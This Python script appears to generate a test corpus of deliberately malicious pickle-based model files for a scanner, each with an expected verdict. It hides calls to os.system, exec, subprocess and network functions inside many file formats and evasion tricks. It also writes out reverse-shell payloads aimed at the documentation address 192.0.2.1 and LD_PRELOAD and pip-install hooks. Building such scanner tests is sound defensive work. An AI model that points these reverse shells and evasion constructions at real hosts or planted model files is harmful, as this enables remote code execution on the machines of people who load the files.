#!/usr/bin/env python3
"""Writes hostile model files with inert payloads: make_malicious.py OUT [--names FILE.tsv]

Opcodes are emitted, never loaded. Commands only echo, hosts end in .invalid or lie in 192.0.2.0/24. The manifest
OUT/../malicious.tsv says of each file: path, expected verdict (`malicious`, or `not-clean` where suspicious or incomplete will do),
words that the explanation must contain (alternatives by `|`), and a note.
"""

import argparse
import base64
import bz2
import codecs
import csv
import gzip
import io
import lzma
import marshal
import os
import struct
import sys
import tarfile
import zlib

from opcodes import Asm, Name, Raw

HERE = os.path.dirname(os.path.abspath(__file__))
NAMES = os.path.join(HERE, "..", "..", "src", "Assay.Scanning", "Indicators", "callables.tsv")
COMMAND = "echo assay"
SOURCE = "print('assay')"
FALLBACK = """
PROC os system|PROC os popen|PROC posix system|PROC nt system|PROC subprocess Popen|PROC subprocess run|PROC subprocess check_output
PROC subprocess getoutput|PROC pty spawn|PROC os execv|PROC os posix_spawn|PROC commands getoutput|PROC webbrowser open
EXEC builtins exec|EXEC builtins eval|EXEC builtins compile|EXEC __builtin__ eval|EXEC __builtin__ execfile|EXEC runpy run_path
EXEC code InteractiveInterpreter.runcode|EXEC timeit timeit|EXEC cProfile run|EXEC pdb run|EXEC profile Profile.run|EXEC bdb Bdb.run
EXEC numpy.testing._private.utils runstring|EXEC torch.utils.bottleneck.__main__ run_cprofile
IMPORT importlib import_module|IMPORT pkgutil resolve_name|IMPORT builtins __import__|IMPORT pydoc locate
NET urllib.request urlopen|NET urllib.request urlretrieve|NET socket create_connection|NET http.client HTTPConnection|NET requests get
FWRITE builtins open|FWRITE io open|FWRITE shutil copyfile|FWRITE numpy save|FDEL os remove|FDEL shutil rmtree|FDEL os unlink
FREAD linecache getlines|FREAD os getenv|NATIVE ctypes CDLL|NATIVE torch.ops load_library|NATIVE ctypes.util find_library
INSTALL pip main|INSTALL pip._internal main|DESER pickle loads|DESER dill loads|DESER torch load|DESER marshal loads|DESER joblib load
"""


def names(path):
    """Dangerous names as (capability, module, name), from the table of the scanner where there is one."""
    if not os.path.exists(path):
        for entry in FALLBACK.replace("\n", "|").split("|"):
            if entry:
                yield tuple(entry.split(" "))
        return
    with open(path, encoding="utf-8", newline="") as lines:
        rows = csv.reader((line for line in lines if not line.startswith("#")), delimiter="\t", quoting=csv.QUOTE_NONE)
        header = next(rows)
        at = {column: header.index(column) for column in ("class", "capability", "module", "name")}
        for row in rows:
            if len(row) > 3 and row[at["class"]] == "dangerous" and row[at["name"]] not in ("", "*"):
                yield row[at["capability"]], row[at["module"]], row[at["name"]]


# ---------------------------------------------------------------- payloads

HARMFUL = {"EXEC", "PROC", "NATIVE", "INSTALL", "NET", "FWRITE", "FDEL"}


def arguments(capability):
    first = capability.replace("+", ",").replace("|", ",").split(",")[0].upper()
    return {
        "EXEC": (SOURCE,),
        "PROC": (COMMAND,),
        "NATIVE": ("/tmp/assay.so",),
        "INSTALL": (["install", "assay-payload"],),
        "NET": ("http://192.0.2.1/assay",),
        "FWRITE": ("/tmp/assay.txt", "w"),
        "FDEL": ("/tmp/assay.txt",),
        "FREAD": ("/etc/passwd",),
        "IMPORT": ("os.system",),
        "DESER": ("http://model.invalid/model.pt",),
        "INVOKE": (Name("os", "system"), (COMMAND,)),
    }.get(first, ("assay",))


def expectation(capability):
    return "malicious" if capability.replace("+", ",").replace("|", ",").split(",")[0].upper() in HARMFUL else "not-clean"


def rot13(text):
    return codecs.encode(text, "rot13")


# ---------------------------------------------------------------- constructions: (module, name, args) -> stream without STOP


def global_reduce(protocol):
    def build(module, name, args):
        if "." in name and protocol < 4:
            return stack_global(4)(module, name, args)
        return Asm(protocol).call(module, name, *args)

    return build


def stack_global(protocol):
    return lambda module, name, args: Asm(protocol).stack_call(module, name, *args)


def inst(module, name, args):
    return Asm(4 if "." in name else 0).items(args).inst(module, name)


def obj(module, name, args):
    return Asm(4 if "." in name else 2).raw(b"(").value(Name(module, name)).raw(b"".join(bytes(_value(a)) for a in args) + b"o")


def _value(value, protocol=1):
    asm = Asm()
    asm.protocol = protocol
    return asm.value(value)


def memo_shuffled(module, name, args):
    asm = Asm(4)
    asm.text(name).raw(b"q\x07").raw(b"0").text("torch.nn").raw(b"q\x03").text(module).raw(b"q\x03").raw(b"00")
    asm.text("noise").raw(b"\x94").raw(b"2").raw(b"00").raw(b"h\x03").raw(b"h\x07").raw(b"\x93")
    return asm.value(tuple(args)).raw(b"R")


def memo_text_index(module, name, args):
    asm = Asm(4).text(name).raw(b"p 7\n").raw(b"0").text(module).raw(b"g+7\n").raw(b"\x93")
    return asm.value(tuple(args)).raw(b"R")


def escaped_text(module, name, args):
    spell = lambda text: b"V" + b"".join(b"\\u%04x" % ord(c) for c in text) + b"\n"
    return Asm(4).raw(spell(module)).raw(spell(name)).raw(b"\x93").value(tuple(args)).raw(b"R")


def escaped_string(module, name, args):
    spell = lambda text: b"S'" + b"".join(b"\\x%02x" % ord(c) for c in text) + b"'\n"
    return Asm(4).raw(spell(module)).raw(spell(name)).raw(b"\x93").value(tuple(args)).raw(b"R")


def short_strings(module, name, args):
    spell = lambda text: b"U" + bytes([len(text)]) + text.encode()
    return Asm(4).raw(spell(module)).raw(spell(name)).raw(b"\x93").value(tuple(args)).raw(b"R")


def rot13_built(module, name, args):
    asm = Asm(4).call("_codecs", "decode", rot13(module), "rot13").call("_codecs", "decode", rot13(name), "rot13")
    return asm.raw(b"\x93").value(tuple(args)).raw(b"R")


def join_built(module, name, args):
    asm = Asm(4).call("builtins", "str.join", "", list(module)).call("builtins", "str.join", "", list(name))
    return asm.raw(b"\x93").value(tuple(args)).raw(b"R")


def base64_built(module, name, args):
    asm = Asm(4)
    for text in (module, name):
        asm.glob("_codecs", "decode").raw(b"(").call("base64", "b64decode", base64.b64encode(text.encode()).decode()).text("utf-8").raw(b"tR")
    return asm.raw(b"\x93").value(tuple(args)).raw(b"R")


def import_module_getattr(module, name, args):
    asm = Asm(4).glob("builtins", "getattr").raw(b"(").call("importlib", "import_module", module).text(name).raw(b"tR")
    return asm.value(tuple(args)).raw(b"R")


def dunder_import_getattr(module, name, args):
    asm = Asm(2).glob("__builtin__", "getattr").raw(b"(").call("__builtin__", "__import__", module).text(name).raw(b"tR")
    return asm.value(tuple(args)).raw(b"R")


def partial(module, name, args):
    return Asm(4).glob("functools", "partial").items([Name(module, name), *args]).raw(b"tR)R")


def mapped(module, name, args):
    asm = Asm(4).glob("builtins", "list").raw(b"(").glob("builtins", "map").items([Name(module, name), [args[0]]]).raw(b"tRtR")
    return asm


def map_by_newobj(module, name, args):
    asm = Asm(4).glob("builtins", "tuple").raw(b"(").glob("builtins", "map").items([Name(module, name), [args[0]]]).raw(b"t\x81t\x81")
    return asm


def starmapped(module, name, args):
    return Asm(4).glob("builtins", "list").raw(b"(").glob("itertools", "starmap").items([Name(module, name), [tuple(args)]]).raw(b"tRtR")


def methodcaller(module, name, args):
    asm = Asm(4).glob("operator", "methodcaller").items([name, *args]).raw(b"tR")
    return asm.raw(b"(").call("importlib", "import_module", module).raw(b"tR")


def attrgetter(module, name, args):
    asm = Asm(4).call("operator", "attrgetter", name).raw(b"(").call("importlib", "import_module", module).raw(b"tR")
    return asm.value(tuple(args)).raw(b"R")


def operator_call(module, name, args):
    return Asm(4).glob("operator", "call").items([Name(module, name), *args]).raw(b"tR")


def reduced(module, name, args):
    return Asm(4).glob("functools", "reduce").items([Name(module, name), [args[0], {}]]).raw(b"tR")


def applied(module, name, args):
    return Asm(2).glob("__builtin__", "apply").items([Name(module, name), tuple(args)]).raw(b"tR")


def resolve_name(module, name, args):
    return Asm(4).call("pkgutil", "resolve_name", module + ":" + name).value(tuple(args)).raw(b"R")


def pydoc_locate(module, name, args):
    return Asm(4).call("pydoc", "locate", module + "." + name).value(tuple(args)).raw(b"R")


def numpy_ufunc(module, name, args):
    return Asm(4).call("numpy.core", "_ufunc_reconstruct", module, name).value(tuple(args)).raw(b"R")


def extension(module, name, args):
    asm = Asm(2).call("copyreg", "add_extension", module, name, 240).raw(b"0").raw(b"\x82\xf0")
    return asm.value(tuple(args)).raw(b"R")


def nested_pickle(module, name, args):
    return Asm(4).call("pickle", "loads", Asm(2).call(module, name, *args).stop())


def nested_pickle_python2(module, name, args):
    return Asm(2).call("cPickle", "loads", Asm(2).call(module, name, *args).stop())


def torch_bytes(module, name, args):
    return Asm(2).call("torch.storage", "_load_from_bytes", legacy(Asm(2).call(module, name, *args).stop()))


def copyreg_reconstruct(module, name, args):
    return Asm(2).glob("copy", "_reconstruct").items([None, None, Name(module, name), tuple(args)]).raw(b"tR")


def rebuild_from_type(module, name, args):
    return Asm(2).glob("torch._tensor", "_rebuild_from_type_v2").items([Name(module, name), Name("torch", "Tensor"), tuple(args), {}]).raw(b"tR")


def hidden_in_dict(module, name, args):
    asm = Asm(2).raw(b"}").text("epoch").number(3).raw(b"s").text("state").raw(b"}").text("weights")
    return asm.call(module, name, *args).raw(b"ss")


def popped(module, name, args):
    return Asm(2).call(module, name, *args).raw(b"0}").text("epoch").number(3).raw(b"s")


def in_persistent_id(module, name, args):
    return Asm(2).call(module, name, *args).raw(b"Q")


def in_state(module, name, args):
    return Asm(2).glob("collections", "OrderedDict").raw(b")R}").text("hook").call(module, name, *args).raw(b"sb")


def late_protocol(module, name, args):
    return Asm(0).raw(b"\x80\x02\x80\x00\x80\x04").stack_call(module, name, *args)


def wrong_frame(module, name, args):
    return Asm(4).raw(b"\x95" + struct.pack("<Q", 2)).stack_call(module, name, *args)


def odd_integers(module, name, args):
    return Asm(0).raw(b"I0x10\n0L0o17\n0I12\x00tail\n0").call(module, name, *args)


def object_array(module, name, args):
    asm = Asm(2).call("numpy.core.multiarray", "_reconstruct", Name("numpy", "ndarray"), (0,), "b")
    asm.items([1, (1,), Raw(bytes(_value_dtype("O8"))), False]).raw(b"(").call(module, name, *args).raw(b"ltb")
    return asm


def _value_dtype(code):
    asm = Asm()
    asm.protocol = 1
    asm.call("numpy", "dtype", code, False, True)
    return asm.items([3, "|", None, None, None, -1, -1, 63]).raw(b"tb")


CONSTRUCTIONS = [
    ("GLOBAL-0", global_reduce(0)), ("GLOBAL-1", global_reduce(1)), ("GLOBAL-2", global_reduce(2)), ("GLOBAL-3", global_reduce(3)),
    ("GLOBAL-4", global_reduce(4)), ("STACK_GLOBAL-4", stack_global(4)), ("STACK_GLOBAL-5", stack_global(5)), ("INST", inst), ("OBJ", obj),
    ("memo-shuffled", memo_shuffled), ("memo-text-index", memo_text_index), ("escaped-UNICODE", escaped_text),
    ("escaped-STRING", escaped_string), ("SHORT_BINSTRING", short_strings), ("rot13", rot13_built), ("str.join", join_built),
    ("base64-name", base64_built), ("import_module+getattr", import_module_getattr), ("__import__+getattr", dunder_import_getattr),
    ("partial", partial), ("map", mapped), ("map-NEWOBJ", map_by_newobj), ("starmap", starmapped), ("methodcaller", methodcaller),
    ("attrgetter", attrgetter), ("operator.call", operator_call), ("reduce", reduced), ("apply", applied), ("resolve_name", resolve_name),
    ("pydoc.locate", pydoc_locate), ("_ufunc_reconstruct", numpy_ufunc), ("EXT1", extension), ("pickle.loads", nested_pickle),
    ("cPickle.loads", nested_pickle_python2), ("_load_from_bytes", torch_bytes), ("copy._reconstruct", copyreg_reconstruct),
    ("_rebuild_from_type_v2", rebuild_from_type), ("inside-dict", hidden_in_dict), ("popped", popped), ("persistent-id", in_persistent_id),
    ("BUILD-state", in_state), ("late-PROTO", late_protocol), ("short-FRAME", wrong_frame), ("odd-integers", odd_integers),
    ("numpy-object-array", object_array),
]
# Every listed name goes through the direct forms; the elaborate ones are crossed with a few names.
DIRECT = ["GLOBAL-2", "STACK_GLOBAL-4", "INST", "GLOBAL-4", "OBJ", "memo-shuffled", "GLOBAL-3", "STACK_GLOBAL-5", "popped", "inside-dict"]
CORE = [
    ("PROC", "os", "system"), ("PROC", "posix", "system"), ("PROC", "nt", "system"), ("EXEC", "builtins", "exec"),
    ("EXEC", "builtins", "eval"), ("PROC", "subprocess", "Popen"), ("PROC", "subprocess", "check_output"), ("NET", "urllib.request", "urlopen"),
    ("EXEC", "runpy", "run_path"), ("NATIVE", "ctypes", "CDLL"),
]


# ---------------------------------------------------------------- containers


def zip_file(members, deflate=False, gap=b"", comment=b""):
    """Members as (name, data, options); options: local (name in the local header), flags, crc, method, directory=False."""
    out = bytearray(gap)
    directory = bytearray()
    count = 0
    for name, data, *rest in members:
        options = rest[0] if rest else {}
        offset = len(out) - len(gap)
        method = options.get("method", 8 if deflate else 0)
        packed = zlib.compress(data, 9)[2:-4] if method == 8 and not options.get("stored") else data
        crc = options.get("crc", zlib.crc32(data))
        flags = options.get("flags", 0)
        local = options.get("local", name).encode()
        size = options.get("size", len(data))
        out += struct.pack("<4s5H3I2H", b"PK\3\4", 20, options.get("local_flags", flags), method, 0, 0x21, crc, len(packed), len(data), len(local), 0)
        out += local + packed
        if options.get("directory", True):
            encoded = name.encode()
            directory += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, flags, method, 0, 0x21, crc, len(packed), size, len(encoded), 0, 0, 0, 0, 0, offset)
            directory += encoded
            count += 1
    start = len(out) - len(gap)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), start, len(comment))
    return bytes(out + directory + end + comment)


def honest(*view):
    """A state dict of one tensor; the persistent id of a legacy file has a sixth item."""
    pid = Raw(bytes(_value(("storage", Name("torch", "FloatStorage"), "0", "cpu", 4, *view))) + b"Q")
    hooks = Raw(bytes(Asm().glob("collections", "OrderedDict").raw(b")R")))
    asm = Asm(2).glob("collections", "OrderedDict").raw(b")R").text("bias")
    return asm.call("torch._utils", "_rebuild_tensor_v2", pid, 0, (4,), (1,), False, hooks).raw(b"s").stop()


HONEST = honest()
STORAGE = struct.pack("<4f", 0.5, -1.0, 2.0, 0.25)


def torch_zip(pickle, *extra, options=None, deflate=False, gap=b"", storage=STORAGE):
    members = [("archive/data.pkl", pickle, options or {}), ("archive/data/0", storage), ("archive/version", b"3\n"), *extra]
    return zip_file(members, deflate=deflate, gap=gap)


def legacy(payload, slot=4):
    magic = Asm(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop()
    protocol = Asm(2).raw(b"M\xe9\x03").stop()
    system = Asm(2).value({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}).stop()
    parts = [magic, protocol, system, honest(None), Asm(2).value(["0"]).stop()]
    parts[slot - 1] = payload
    return b"".join(parts) + struct.pack("<q", 4) + STORAGE


def tar_checkpoint(pickle):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (("storages", Asm(2).number(0).stop()), ("tensors", Asm(2).number(0).stop()), ("pickle", pickle)):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            tar.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def tar_of(name, data, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as tar:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        tar.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def npy(descr, shape, data, version=1):
    header = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    width = 2 if version == 1 else 4
    pad = -(len(header) + 1 + 8 + width) % 64
    header = (header + " " * pad + "\n").encode()
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(header)) + header + data


def joblib_wrapper(descr, shape, raw, align=True):
    """A NumpyArrayWrapper with its raw array, which stands in the stream right after BUILD."""
    asm = Asm()
    asm.protocol = 2
    asm.glob("joblib.numpy_pickle", "NumpyArrayWrapper").raw(b")\x81")
    state = {"subclass": Name("numpy", "ndarray"), "shape": shape, "order": "C", "dtype": Raw(bytes(_value_dtype(descr))), "allow_mmap": True}
    if align:
        state["numpy_array_alignment_bytes"] = 16
    asm.value(state).raw(b"b")
    return asm.raw((b"\x04\xff\xff\xff\xff" if align else b"") + raw)


def joblib_stream(payload_code):
    """A dict with a raw array first, then whatever the opcodes leave."""
    asm = Asm(2).raw(b"}").text("weights").raw(bytes(joblib_wrapper("f8", (2,), struct.pack("<2d", 1.0, 2.0)))).raw(b"s")
    return asm.text("extra").raw(payload_code).raw(b"s").stop()


def joblib_object_array(pickle):
    asm = Asm(2).raw(b"}").text("first").raw(bytes(joblib_wrapper("f4", (4,), STORAGE))).raw(b"s")
    return asm.text("second").raw(bytes(joblib_wrapper("O", (1,), pickle, align=False))).raw(b"s").stop()


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
SAFETENSORS = (lambda header: struct.pack("<Q", len(header)) + header + STORAGE)(
    b'{"bias":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'.ljust(64)
)


def body(stream):
    """The opcodes of a stream without PROTO and STOP, to be put into another stream (which says protocol 4)."""
    return b"\x80\x04" + stream[:-1]


def zf(data):
    packed = zlib.compress(data)
    return b"ZF" + hex(len(data)).encode().ljust(19) + packed


M, N = "malicious", "not-clean"
CARRIERS = [
    ("raw.pkl", lambda p: p, M), ("raw.bin", lambda p: p, M), ("raw.pt", lambda p: p, M), ("raw.joblib", lambda p: p, M),
    ("raw.txt", lambda p: p, M), ("raw.json", lambda p: p, M), ("raw.png", lambda p: p, M), ("raw.safetensors", lambda p: p, M),
    ("raw.gguf", lambda p: p, M), ("raw.npy", lambda p: p, M), ("README", lambda p: p, M), ("raw.dat", lambda p: p, M),
    ("torch-zip.pt", torch_zip, M), ("torch-zip.pth", lambda p: torch_zip(p, deflate=True), M),
    ("torch-zip.safetensors", torch_zip, M),
    ("extra-member.bin", lambda p: torch_zip(HONEST, ("archive/optimizer.pkl", p)), M),
    ("renamed-member.bin", lambda p: torch_zip(HONEST, ("archive/notes.txt", p)), M),
    ("storage-is-pickle.bin", lambda p: torch_zip(HONEST, ("archive/data/1", p)), N),
    ("case-of-name.pt", lambda p: zip_file([("archive/DATA.PKL", p), ("archive/data/0", STORAGE)]), M),
    ("first-record.pt", lambda p: zip_file([("a/data.pkl", p), ("b/data.pkl", HONEST), ("b/data/0", STORAGE)]), M),
    ("legacy-slot1.pt", lambda p: legacy(p, 1), M), ("legacy-slot2.pt", lambda p: legacy(p, 2), M),
    ("legacy-slot3.pt", lambda p: legacy(p, 3), M), ("legacy-slot4.pt", lambda p: legacy(p, 4), M),
    ("legacy-slot5.pt", lambda p: legacy(p, 5), M),
    ("checkpoint.tar", tar_checkpoint, M), ("member-of.tar", lambda p: tar_of("weights/a.dat", p), M),
    ("member-of.tar.gz", lambda p: tar_of("model.bin", p, "w:gz"), M),
    ("object.npy", lambda p: npy("|O", (1,), p), M), ("object-v2.npy", lambda p: npy("|O", (1,), p, 2), M),
    ("object-v3.npy", lambda p: npy("|O", (1,), p, 3), M),
    ("structured-object.npy", lambda p: npy([("a", "<f4"), ("b", "|O")], (1,), p), M),
    ("object-member.npz", lambda p: zip_file([("x.npy", npy("<f4", (4,), STORAGE)), ("y.npy", npy("|O", (1,), p))]), M),
    ("pickle-member.npz", lambda p: zip_file([("x.npy", npy("<f4", (4,), STORAGE)), ("y.npy", p)], deflate=True), M),
    ("stream.joblib", lambda p: joblib_stream(body(p)), M), ("zlib.joblib", lambda p: zlib.compress(joblib_stream(body(p))), M),
    ("gzip.joblib", lambda p: gzip.compress(joblib_stream(body(p)), mtime=0), M),
    ("object-array.joblib", joblib_object_array, M), ("object-array-zlib.joblib", lambda p: zlib.compress(joblib_object_array(p)), M),
    ("old.joblib.z", zf, M), ("gzipped.pkl.gz", lambda p: gzip.compress(p, mtime=0), M), ("twice-gzipped.pkl", lambda p: gzip.compress(gzip.compress(p, mtime=0), mtime=0), M),
    ("zlib.pkl", zlib.compress, M), ("zlib-level1.pkl", lambda p: zlib.compress(p, 1), M),
    ("bz2.pkl.bz2", bz2.compress, N), ("xz.pkl.xz", lzma.compress, N),
    ("broken-tail.pkl", lambda p: p[:-1] + b"0\xff\xfegarbage", M), ("no-stop.pkl", lambda p: p[:-1], M),
    ("stack-underflow-tail.pkl", lambda p: p[:-1] + b"00000.", M), ("unknown-opcode-tail.bin", lambda p: torch_zip(p[:-1] + b"X\xff\xff\xff\x7f"), M),
    ("second-pickle.pkl", lambda p: Asm(2).value({"epoch": 3}).stop() + p, M),
    ("after-zeros.pkl", lambda p: Asm(2).value({"epoch": 3}).stop() + b"\0" * 64 + p, N),
    ("appended-to.png", lambda p: PNG + p, N), ("appended-to.safetensors", lambda p: SAFETENSORS + p, N),
    ("appended-to-zip.pt", lambda p: torch_zip(HONEST) + p, N), ("before-zip.pt", lambda p: torch_zip(HONEST, gap=p), M),
    ("between-zip.pt", lambda p: zip_file([("archive/data.pkl", HONEST), ("archive/hidden.pkl", p, {"directory": False}), ("archive/data/0", STORAGE)]), M),
    ("lying-local-name.pt", lambda p: torch_zip(p, options={"local": "archive/read.txt"}), M),
    ("lying-central-name.pt", lambda p: zip_file([("archive/info.txt", p, {"local": "archive/data.pkl"}), ("archive/data/0", STORAGE)]), M),
    ("fake-encryption.pt", lambda p: torch_zip(p, options={"flags": 1}), M),
    ("fake-central-encryption.pt", lambda p: torch_zip(p, options={"flags": 1, "local_flags": 0}), M),
    ("bad-crc.pt", lambda p: torch_zip(p, options={"crc": 0xDEADBEEF}), M),
    ("lying-method.pt", lambda p: torch_zip(p, options={"method": 8, "stored": True}), M),
    ("duplicate-first.pt", lambda p: torch_zip(p, ("archive/data.pkl", HONEST)), M),
    ("duplicate-last.pt", lambda p: torch_zip(HONEST, ("archive/data.pkl", p)), M),
    ("zip-in-zip.zip", lambda p: zip_file([("models/inner.pt", torch_zip(p))]), M),
    ("zip-in-zip-in-zip.zip", lambda p: zip_file([("a.zip", zip_file([("b.zip", zip_file([("c", p)]))], deflate=True))]), M),
    ("zip-in-tar.tar", lambda p: tar_of("inner.pt", torch_zip(p)), M), ("pickle-in-bytes.pkl", lambda p: Asm(4).value({"blob": p}).stop(), N),
    ("torchscript-data.pt", lambda p: zip_file([("m/data.pkl", p), ("m/constants.pkl", Asm(2).raw(b")").stop()), ("m/code/__torch__.py", b"")]), M),
    ("torchscript-constants.pt", lambda p: zip_file([("m/data.pkl", HONEST), ("m/constants.pkl", p), ("m/code/__torch__.py", b"")]), M),
    ("zip-comment.pt", lambda p: zip_file([("archive/data.pkl", HONEST), ("archive/data/0", STORAGE)], comment=p), N),
    ("data-descriptor.pt", lambda p: torch_zip(p, options={"flags": 8}), M),
    ("nul-in-name.pt", lambda p: zip_file([("archive/data.pkl\0.txt", p), ("archive/data/0", STORAGE)]), M),
    ("office.docx", lambda p: zip_file([("[Content_Types].xml", b"<Types/>"), ("word/model.bin", p)], deflate=True), M),
]


def by_name(carrier):
    return next(entry for entry in CARRIERS if entry[0] == carrier)


# ---------------------------------------------------------------- things that are no plain call of a listed name


def specials():
    code = marshal.dumps(compile("import os\nos.system('echo assay')\n", "<assay>", "exec"))
    shell = "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh -i')"
    chain = base64.b64encode(zlib.compress(SOURCE.encode()))
    yield "setitem-os.environ", M, "environ", Asm(2).glob("os", "environ").value("LD_PRELOAD").value("/tmp/assay.so").raw(b"s").stop()
    yield "setitems-os.environ", M, "environ", Asm(2).glob("os", "environ").items(["http_proxy", "http://192.0.2.1"]).raw(b"u").stop()
    yield "setitem-sys.modules", M, "modules", Asm(2).glob("sys", "modules").value("json").value(Name("os", "path")).raw(b"s").stop()
    yield "setitem-builtins", M, "builtins", Asm(4).glob("builtins", "__dict__").value("print").value(Name("os", "system")).raw(b"s").stop()
    yield "append-sys.path", M, "path", Asm(2).glob("sys", "path").value("/tmp/assay").raw(b"a").stop()
    yield "appends-sys.path", M, "path", Asm(2).glob("sys", "path").items(["/tmp/assay"]).raw(b"e").stop()
    yield "append-sys.meta_path", M, "meta_path", Asm(2).glob("sys", "meta_path").value(Name("collections", "OrderedDict")).raw(b"a").stop()
    yield "additems-imported", N, "atexit|add", Asm(4).glob("gc", "callbacks").items([Name("os", "system")]).raw(b"\x90").stop()
    yield "build-on-class", M, "forward|Module", Asm(2).glob("torch.nn", "Module").value((None, {"forward": Name("os", "system")})).raw(b"b").stop()
    yield "build-on-module-attr", M, "JSONEncoder|exec", Asm(2).glob("json", "JSONEncoder").value((None, {"encode": Name("builtins", "exec")})).raw(b"b").stop()
    yield "build-defaultdict-factory", N, "getoutput", Asm(2).call("collections", "defaultdict", Name("subprocess", "getoutput")).stop()
    yield "newobj-map-tuple", M, "system", map_by_newobj("os", "system", (COMMAND,)).stop()
    yield "newobj-map-bytes", M, "eval", Asm(2).glob("__builtin__", "frozenset").raw(b"(").glob("builtins", "map").items([Name("builtins", "eval"), [SOURCE]]).raw(b"t\x81t\x81").stop()
    yield "newobj-type", N, "type", Asm(2).glob("builtins", "type").items(["A", (), {"__reduce__": Name("os", "system")}]).raw(b"t\x81").stop()
    yield "newobj-partial", N, "system", Asm(2).glob("functools", "partial").items([Name("os", "system"), COMMAND]).raw(b"t\x81").stop()
    yield "newobj-popen", N, "Popen", Asm(2).glob("subprocess", "Popen").items([["echo", "assay"]]).raw(b"t\x81").stop()
    yield "newobjex-popen", N, "Popen", Asm(4).glob("subprocess", "Popen").value(()).value({"args": ["echo", "assay"]}).raw(b"\x92").stop()
    yield "newobj-memmap", N, "memmap", Asm(2).glob("numpy", "memmap").items(["/tmp/assay.bin", "uint8", "w+"]).raw(b"t\x81").stop()
    yield "imported-only", N, "system", Asm(2).raw(b"}").text("hook").glob("os", "system").raw(b"s").stop()
    yield "imported-antigravity", N, "antigravity", Asm(2).glob("antigravity", "webbrowser").stop()
    yield "dotted-argparse", M, "system", Asm(4).stack_call("argparse", "_os.system", COMMAND).stop()
    yield "dotted-collections", N, "_sys", Asm(4).stack_call("collections", "_sys.exit", 0).stop()
    yield "dotted-torch", M, "system", Asm(4).stack_call("torch.serialization", "os.system", COMMAND).stop()
    yield "dotted-numpy", M, "system", Asm(4).stack_call("numpy.lib.npyio", "os.system", COMMAND).stop()
    yield "dotted-enum-bltns", M, "exec", Asm(4).stack_call("enum", "bltns.exec", SOURCE).stop()
    yield "dotted-globals", M, "system|__globals__", Asm(4).glob("operator", "getitem").raw(b"(").stack_glob("torch.nn", "Module.__init__.__globals__").text("os").raw(b"tR0").stack_call("os", "system", COMMAND).stop()
    yield "python2-builtin-eval", M, "eval", Asm(2).call("__builtin__", "eval", SOURCE).stop()
    yield "python2-commands", M, "getoutput", Asm(0).call("commands", "getoutput", COMMAND).stop()
    yield "python2-execfile", M, "execfile", Asm(0).call("__builtin__", "execfile", "/tmp/assay.py").stop()
    yield "python2-urllib2", M, "urlopen", Asm(2).call("urllib2", "urlopen", "http://192.0.2.1/a").stop()
    yield "marshal-function", M, "marshal|FunctionType|exec|system", Asm(4).glob("types", "FunctionType").raw(b"(").call("marshal", "loads", code).value({}).raw(b"tR)R").stop()
    yield "marshal-exec", M, "exec", Asm(4).glob("builtins", "exec").raw(b"(").call("marshal", "loads", code).raw(b"tR").stop()
    yield "base64-zlib-exec", M, "exec", Asm(4).glob("builtins", "exec").raw(b"(").glob("zlib", "decompress").raw(b"(").call("base64", "b64decode", chain).raw(b"tRtR").stop()
    yield "codecs-exec", M, "exec", Asm(4).glob("builtins", "exec").raw(b"(").call("_codecs", "decode", rot13(SOURCE), "rot13").raw(b"tR").stop()
    yield "reverse-shell", M, "exec|socket", Asm(2).call("__builtin__", "exec", shell).stop()
    yield "reverse-shell-bash", M, "system|Popen", Asm(2).call("posix", "system", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'").stop()
    yield "getattr-of-imported", M, "system", Asm(4).glob("builtins", "getattr").items([Name("torch", "os"), "system"]).raw(b"tR").value((COMMAND,)).raw(b"R").stop()
    yield "getattr-chain", M, "system", Asm(4).glob("builtins", "getattr").raw(b"(").glob("builtins", "getattr").items([Name("collections", "abc"), "sys"]).raw(b"tR").text("modules").raw(b"tR0").stack_call("os", "system", COMMAND).stop()
    yield "open-write", M, "open", Asm(4).call("builtins", "open", "/tmp/assay.txt", "w").stop()
    yield "write-text", M, "write_text", Asm(4).glob("pathlib", "Path.write_text").raw(b"(").call("pathlib", "PosixPath", "/tmp/assay.py").text(SOURCE).raw(b"tR").stop()
    yield "operator-methodcaller-write", N, "write", Asm(4).call("operator", "methodcaller", "write", "assay").raw(b"(").call("builtins", "open", "/tmp/assay.txt", "w").raw(b"tR").stop()
    yield "unknown-module-call", N, "mypackage", Asm(2).call("mypackage.helpers", "prepare", COMMAND).stop()
    yield "unknown-stdlib-call", N, "sched|scheduler|formatannotation|mailbox", Asm(2).call("mailbox", "Maildir", "/tmp/assay").stop()
    yield "lookalike-module", N, "torch", Asm(2).call("t0rch._utils", "_rebuild_tensor_v2", COMMAND).stop()
    yield "pip-main", M, "pip|main", Asm(2).call("pip", "main", ["install", "assay-payload"]).stop()
    yield "torch-hub", N, "hub|load", Asm(2).call("torch.hub", "load", "owner/assay", "model").stop()
    yield "fx-source", M, "reduce_graph_module", Asm(2).call("torch.fx.graph_module", "reduce_graph_module", {"_code": "import os\nos.system('echo assay')\ndef forward(self, x):\n    return x\n"}, "").stop()
    yield "numpy-scalar-object", M, "system", Asm(4).glob("numpy.core.multiarray", "scalar").raw(b"(").raw(bytes(_value_dtype("O8"))).call("os", "system", COMMAND).raw(b"tR").stop()
    yield "dill-code", M, "system|_create_function|_create_code", Asm(4).glob("dill._dill", "_create_function").raw(b"(").call("dill._dill", "_unmarshal", code).value({}).raw(b"tR)R").stop()
